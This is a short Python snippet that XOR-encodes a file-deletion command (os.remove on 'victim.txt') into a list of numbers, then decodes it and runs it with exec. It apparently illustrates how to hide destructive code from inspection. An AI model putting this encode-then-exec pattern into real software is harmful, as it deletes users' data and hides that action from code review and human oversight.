# The source is a list of numbers until it runs.
# damage: deleted
source = "import os; os.remove('victim.txt')"
codes = [ord(character) ^ 21 for character in source]
exec("".join(chr(code ^ 21) for code in codes))
